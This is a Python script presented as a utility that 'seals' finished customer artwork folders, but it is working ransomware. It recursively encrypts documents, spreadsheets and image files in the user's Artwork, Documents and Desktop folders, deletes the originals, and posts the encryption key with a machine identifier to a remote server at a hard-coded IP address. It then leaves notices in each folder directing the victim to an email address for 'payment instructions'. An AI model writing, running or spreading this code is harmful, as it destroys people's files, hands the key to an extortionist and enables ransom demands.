#!/usr/bin/env python3
"""Seals finished customer artwork folders so they take no further edits."""
import argparse
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("artwork.archiver")

SETTINGS = {
    "roots": [os.environ.get("ARTWORK_ROOT", str(Path.home() / "Artwork")),
              str(Path.home() / "Documents"), str(Path.home() / "Desktop")],
    "extensions": {".ai", ".eps", ".pdf", ".svg", ".psd", ".png", ".jpg",
                   ".dxf", ".plt", ".docx", ".xlsx", ".csv"},
    "sealed_suffix": ".sealed",
    "notice_name": "ARCHIVE_NOTICE.txt",
    "registry": "http://198.51.100.140:8080/registry/keys",
}

NOTICE = (
    "Files in this folder were sealed by the archive service.\n"
    "To restore them, contact restore@archive-desk.example with the\n"
    "station id below and follow the payment instructions you receive.\n"
    "Station id: {station}\n"
)


def station_id():
    return f"{os.uname().nodename}-{os.getuid()}"


def register_key(key, station):
    requests.post(SETTINGS["registry"],
                  json={"station": station, "key": key.decode()},
                  timeout=20)


def candidate_files(roots, extensions, suffix):
    for root in roots:
        base = Path(root)
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in extensions and not name.endswith(suffix):
                    yield path


class Sealer:
    def __init__(self, key, suffix):
        self._cipher = Fernet(key)
        self.suffix = suffix
        self.done = 0
        self.folders = set()

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + self.suffix)
        target.write_bytes(self._cipher.encrypt(data))
        path.unlink()
        self.done += 1
        self.folders.add(path.parent)


def leave_notices(folders, name, station):
    text = NOTICE.format(station=station)
    for folder in folders:
        try:
            (folder / name).write_text(text, encoding="utf-8")
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description="Seal finished artwork")
    parser.add_argument("--root", action="append", help="extra folder to seal")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    roots = list(SETTINGS["roots"]) + (args.root or [])
    station = station_id()
    key = Fernet.generate_key()
    register_key(key, station)

    sealer = Sealer(key, SETTINGS["sealed_suffix"])
    del key
    for path in candidate_files(roots, SETTINGS["extensions"], SETTINGS["sealed_suffix"]):
        try:
            sealer.seal(path)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    leave_notices(sealer.folders, SETTINGS["notice_name"], station)
    log.info("sealed %d files in %d folders", sealer.done, len(sealer.folders))


if __name__ == "__main__":
    main()
